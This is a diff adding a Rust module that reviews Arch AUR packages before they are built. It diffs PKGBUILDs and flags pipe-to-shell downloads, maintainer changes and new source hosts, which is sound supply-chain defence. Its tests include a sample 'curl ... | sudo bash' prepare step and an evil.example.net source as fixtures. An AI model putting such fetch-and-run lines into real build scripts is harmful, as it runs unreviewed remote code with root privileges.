@@ -0,0 +1,287 @@
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeSet;
+use std::time::Duration;
+
+/// Lines of unchanged context kept around each change in a diff
+const CONTEXT: usize = 3;
+
+/// Build files of an AUR package as published in its git repository
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct AurSource {
+    pub pkgbase: String,
+    pub pkgbuild: String,
+    pub srcinfo: String,
+    /// None for orphaned packages
+    pub maintainer: Option<String>,
+}
+
+/// An AUR package to look over before it is built, compared with the last reviewed revision
+#[derive(Debug, Clone)]
+pub struct AurReview {
+    pub name: String,
+    pub source: AurSource,
+    /// Revision accepted last time; None on the first review
+    pub previous: Option<AurSource>,
+    /// Unified diff of the PKGBUILD against the previous revision
+    pub diff: Vec<String>,
+    pub warnings: Vec<String>,
+}
+
+impl AurReview {
+    pub fn new(name: &str, source: AurSource, previous: Option<AurSource>) -> Self {
+        let diff = previous
+            .as_ref()
+            .map(|previous| diff_lines(&previous.pkgbuild, &source.pkgbuild))
+            .unwrap_or_default();
+        let warnings = risk_warnings(&source, previous.as_ref());
+        Self {
+            name: name.to_string(),
+            source,
+            previous,
+            diff,
+            warnings,
+        }
+    }
+}
+
+#[derive(Debug, Deserialize)]
+struct RpcResponse {
+    results: Vec<RpcPackage>,
+}
+
+#[derive(Debug, Deserialize)]
+struct RpcPackage {
+    #[serde(rename = "PackageBase")]
+    package_base: String,
+    #[serde(rename = "Maintainer")]
+    maintainer: Option<String>,
+}
+
+/// Fetch the PKGBUILD and .SRCINFO of an AUR package from `aur_url`
+/// (e.g. https://aur.archlinux.org, which serves the git repositories through cgit)
+pub fn fetch_aur_source(name: &str, aur_url: &str) -> Result<AurSource, String> {
+    let aur_url = aur_url.trim_end_matches('/');
+    let client = reqwest::blocking::Client::builder()
+        .timeout(Duration::from_secs(15))
+        .build()
+        .map_err(|e| e.to_string())?;
+
+    // Split packages live in the repository of their pkgbase
+    let response: RpcResponse = client
+        .get(format!("{}/rpc/v5/info", aur_url))
+        .query(&[("arg[]", name)])
+        .send()
+        .and_then(|r| r.error_for_status())
+        .and_then(|r| r.json())
+        .map_err(|e| format!("AUR lookup failed: {}", e))?;
+    let package = response
+        .results
+        .into_iter()
+        .next()
+        .ok_or_else(|| format!("{} is not in the AUR", name))?;
+
+    let fetch = |file: &str| -> Result<String, String> {
+        client
+            .get(format!("{}/cgit/aur.git/plain/{}", aur_url, file))
+            .query(&[("h", package.package_base.as_str())])
+            .send()
+            .and_then(|r| r.error_for_status())
+            .and_then(|r| r.text())
+            .map_err(|e| format!("Failed to fetch {}: {}", file, e))
+    };
+
+    Ok(AurSource {
+        pkgbuild: fetch("PKGBUILD")?,
+        srcinfo: fetch(".SRCINFO")?,
+        pkgbase: package.package_base,
+        maintainer: package.maintainer,
+    })
+}
+
+/// Things in a PKGBUILD worth a second look before building it
+fn risk_warnings(source: &AurSource, previous: Option<&AurSource>) -> Vec<String> {
+    let mut warnings = Vec::new();
+
+    let pipe_to_shell = Regex::new(r"\b(curl|wget)\b[^|#]*\|\s*(sudo\s+)?(ba|z|da)?sh\b").unwrap();
+    for line in source.pkgbuild.lines() {
+        if pipe_to_shell.is_match(line) {
+            warnings.push(format!("pipes a download into a shell: {}", line.trim()));
+        }
+    }
+
+    match (&source.maintainer, previous.map(|p| &p.maintainer)) {
+        (None, _) => warnings.push("orphaned: no maintainer".to_string()),
+        (Some(new), Some(old)) if Some(new) != old.as_ref() => warnings.push(format!(
+            "maintainer changed from {} to {}",
+            old.as_deref().unwrap_or("nobody"),
+            new
+        )),
+        _ => {}
+    }
+
+    // New versions change the version in the URL but not where it points
+    if let Some(previous) = previous {
+        let previous_urls = source_urls(&previous.srcinfo);
+        let known_hosts: BTreeSet<&str> = previous_urls.iter().copied().filter_map(host).collect();
+        let known_urls: BTreeSet<String> =
+            previous_urls.iter().map(|url| normalize_url(url)).collect();
+        for url in source_urls(&source.srcinfo) {
+            if host(url).is_some_and(|h| !known_hosts.contains(h)) {
+                warnings.push(format!("source from a new host: {}", url));
+            } else if !known_urls.contains(&normalize_url(url)) {
+                warnings.push(format!("source URL changed: {}", url));
+            }
+        }
+    }
+
+    warnings
+}
+
+/// Remote sources listed in .SRCINFO (`source` and `source_<arch>`)
+pub(super) fn source_urls(srcinfo: &str) -> Vec<&str> {
+    srcinfo
+        .lines()
+        .filter_map(|line| line.trim().split_once(" = "))
+        .filter(|(key, _)| *key == "source" || key.starts_with("source_"))
+        // "name::url" renames the download
+        .map(|(_, value)| value.split_once("::").map_or(value, |(_, url)| url))
+        .filter(|url| url.contains("://"))
+        .collect()
+}
+
+/// "github.com" from "git+https://github.com/foo/bar.git#tag=v1"
+fn host(url: &str) -> Option<&str> {
+    let (_, rest) = url.split_once("://")?;
+    rest.split(['/', '?', '#']).next().filter(|h| !h.is_empty())
+}
+
+/// URL with its fragment dropped and version numbers blanked, so a version bump compares
+/// equal: "https://github.com/foo/foo/archive/v1.2.tar.gz#sha=1" -> ".../archive/v#.tar.gz"
+fn normalize_url(url: &str) -> String {
+    let url = url.split('#').next().unwrap_or(url);
+    let version = Regex::new(r"\d+([._]\d+)*").unwrap();
+    version.replace_all(url, "#").into_owned()
+}
+
+/// Unified diff between two texts, with a few lines of context around each change
+fn diff_lines(old: &str, new: &str) -> Vec<String> {
+    let old: Vec<&str> = old.lines().collect();
+    let new: Vec<&str> = new.lines().collect();
+
+    // Longest common subsequence table, from the end
+    let mut lcs = vec![vec![0usize; new.len() + 1]; old.len() + 1];
+    for i in (0..old.len()).rev() {
+        for j in (0..new.len()).rev() {
+            lcs[i][j] = if old[i] == new[j] {
+                lcs[i + 1][j + 1] + 1
+            } else {
+                lcs[i + 1][j].max(lcs[i][j + 1])
+            };
+        }
+    }
+
+    // Every line tagged ' ', '-' or '+', with its line number in the new file
+    let mut ops: Vec<(char, &str, usize)> = Vec::new();
+    let (mut i, mut j) = (0, 0);
+    while i < old.len() || j < new.len() {
+        if i < old.len() && j < new.len() && old[i] == new[j] {
+            ops.push((' ', old[i], j));
+            i += 1;
+            j += 1;
+        } else if i < old.len() && (j == new.len() || lcs[i + 1][j] >= lcs[i][j + 1]) {
+            ops.push(('-', old[i], j));
+            i += 1;
+        } else {
+            ops.push(('+', new[j], j));
+            j += 1;
+        }
+    }
+
+    // Keep changes plus their context, with a header wherever lines are skipped
+    let changed: Vec<usize> = ops
+        .iter()
+        .enumerate()
+        .filter(|(_, (tag, _, _))| *tag != ' ')
+        .map(|(n, _)| n)
+        .collect();
+    let mut lines = Vec::new();
+    let mut last_shown: Option<usize> = None;
+    for (n, (tag, line, new_line)) in ops.iter().enumerate() {
+        let near_change = changed.iter().any(|&c| c.abs_diff(n) <= CONTEXT);
+        if !near_change {
+            continue;
+        }
+        if last_shown.is_none_or(|last| last + 1 != n) {
+            lines.push(format!("@@ line {} @@", new_line + 1));
+        }
+        lines.push(format!("{}{}", tag, line));
+        last_shown = Some(n);
+    }
+    lines
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn source(pkgbuild: &str, srcinfo: &str, maintainer: Option<&str>) -> AurSource {
+        AurSource {
+            pkgbase: "foo".to_string(),
+            pkgbuild: pkgbuild.to_string(),
+            srcinfo: srcinfo.to_string(),
+            maintainer: maintainer.map(String::from),
+        }
+    }
+
+    #[test]
+    fn test_diff_lines() {
+        let old = "a\nb\nc\nd\ne\nf\ng\nh\ni\nj\n";
+        let new = "a\nb\nc\nd\ne\nF\ng\nh\ni\nj\nk\n";
+        assert_eq!(
+            diff_lines(old, new),
+            vec!["@@ line 3 @@", " c", " d", " e", "-f", "+F", " g", " h", " i", " j", "+k"]
+        );
+        assert!(diff_lines(old, old).is_empty());
+    }
+
+    #[test]
+    fn test_risk_warnings() {
+        let srcinfo =
+            "pkgbase = foo\n\tsource = foo-1.0.tar.gz::https://github.com/foo/foo/archive/v1.0.tar.gz\n";
+        let previous = source("build() { make; }\n", srcinfo, Some("alice"));
+
+        // Version bump from the same host: nothing to report
+        let bumped = source("build() { make; }\n", &srcinfo.replace("1.0", "1.1.2"), Some("alice"));
+        assert!(AurReview::new("foo", bumped, Some(previous.clone())).warnings.is_empty());
+
+        // Same host, someone else's repository
+        let forked = source(
+            "build() { make; }\n",
+            &srcinfo.replace("github.com/foo/", "github.com/attacker/"),
+            Some("alice"),
+        );
+        assert_eq!(
+            AurReview::new("foo", forked, Some(previous.clone())).warnings,
+            vec!["source URL changed: https://github.com/attacker/foo/archive/v1.0.tar.gz"]
+        );
+
+        let risky = source(
+            "prepare() {\n  curl -fsSL https://get.example.com | sudo bash\n}\n",
+            "pkgbase = foo\n\tsource_x86_64 = git+https://evil.example.net/foo.git#tag=v1\n",
+            Some("mallory"),
+        );
+        assert_eq!(
+            AurReview::new("foo", risky, Some(previous)).warnings,
+            vec![
+                "pipes a download into a shell: curl -fsSL https://get.example.com | sudo bash",
+                "maintainer changed from alice to mallory",
+                "source from a new host: git+https://evil.example.net/foo.git#tag=v1",
+            ]
+        );
+
+        // First review of an orphan
+        let orphan = source("build() { make; }\n", srcinfo, None);
+        assert_eq!(AurReview::new("foo", orphan, None).warnings, vec!["orphaned: no maintainer"]);
+    }
+}